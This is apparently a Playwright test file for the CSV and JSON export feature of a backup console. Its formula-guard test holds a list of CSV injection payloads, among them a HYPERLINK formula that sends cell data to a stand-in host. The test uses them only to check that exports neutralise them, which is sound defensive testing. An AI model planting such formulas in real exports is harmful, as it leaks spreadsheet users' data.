// "Export" (PRODUCT.md, 3): what is shown, as CSV and as JSON.
import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { expect, signIn, test } from './fixtures.ts';
import { backup, button, withoutPolls } from './console.ts';

test.beforeEach(({ emulator }) => withoutPolls(emulator));

test.describe('"Export"', () => {
  async function exported(page: Page, kind: 'CSV' | 'JSON') {
    await button(page, 'Export').click();
    const download = page.waitForEvent('download');
    await button(page, kind).click();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(new RegExp(`^[\\w.-]+\\.${kind.toLowerCase()}$`));
    return readFile(await file.path());
  }
  const HOSTILE = ['=HYPERLINK("https://example.invalid/?"&A1,"Click")', '+1+1', '-2+3 cells', '@SUM(A1:A9)', '\t=1+1', ' =1+1'];

  test('CSV: a BOM, the shown rows only, in their order', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full, './?sort=id&backup_type=manual');
    const csv = await exported(page, 'CSV');
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = csv.subarray(3).toString().trimEnd().split('\r\n');
    expect(lines.length).toBe(3);
    expect(lines[1]).toMatch(/^499,12345,web-server-01,manual,completed,4450,2025-01-14T10:30:00Z,,Pre-update backup$/);
    expect(lines[2]).toMatch(/^502,12345,web-server-01,manual,in_progress,,2025-01-16T14:30:00Z,,Pre-deployment backup$/);
  });

  test('CSV: no cell is a formula', async ({ page, emulator }) => {
    await emulator.addBackups([...HOSTILE.entries()].map(([index, description]) => backup(600 + index, { description, server: { id: 9, name: description } })));
    await signIn(page, emulator.tokens.full, './?sort=id&server_id=9');
    const lines = (await exported(page, 'CSV')).toString().trimEnd().split('\r\n').slice(1);
    expect(lines.length).toBe(HOSTILE.length);
    for (const [index, line] of lines.entries()) {
      const guarded = `'${HOSTILE[index]?.replaceAll('"', '""')}`;
      expect(line.split(guarded).length, line).toBe(3);
      for (const start of ['=', '+', '-', '@']) {
        expect(line).not.toContain(`,${start}`);
        expect(line).not.toContain(`,"${start}`);
      }
    }
  });

  test('CSV: commas, quotes and lines stay in their cell', async ({ page, emulator }) => {
    await emulator.addBackups([backup(600, { description: 'keep, "final"\nsecond line' })]);
    await signIn(page, emulator.tokens.full, './?q=final');
    expect((await exported(page, 'CSV')).toString()).toContain(',"keep, ""final""\nsecond line"\r\n');
  });

  test('JSON: the shown rows only, as the API wrote them', async ({ page, emulator }) => {
    await emulator.addBackups([backup(600, { description: '=1+1 "ışık"\n<b>' })]);
    await signIn(page, emulator.tokens.full, './?sort=-id&backup_type=manual');
    const json = JSON.parse((await exported(page, 'JSON')).toString()) as { id: number }[];
    expect(json.map((row) => row.id)).toEqual([600, 502, 499]);
    expect(json[0]).toEqual(backup(600, { description: '=1+1 "ışık"\n<b>' }));
    expect(json[1]).toMatchObject({ server: { id: 12345, name: 'web-server-01' }, status: 'in_progress', size_mb: null, expires_at: null });
  });

  test('all rows that are shown, also those that are not on the page', async ({ page, emulator }) => {
    await emulator.reset({ seed: 'large=2000' });
    await signIn(page, emulator.tokens.full);
    expect((JSON.parse((await exported(page, 'JSON')).toString()) as unknown[]).length).toBe(2000);
  });

  test('Escape leaves without a file, and by keyboard it works', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    let count = 0;
    page.on('download', () => void (count += 1));
    await button(page, 'Export').press('Enter');
    await expect(button(page, 'CSV')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(button(page, 'CSV')).toBeHidden();
    expect(count).toBe(0);
    await button(page, 'Export').press('Enter');
    const download = page.waitForEvent('download');
    await button(page, 'JSON').press('Enter');
    await download;
    await expect(button(page, 'JSON')).toBeHidden();
    expect(count).toBe(1);
  });
});
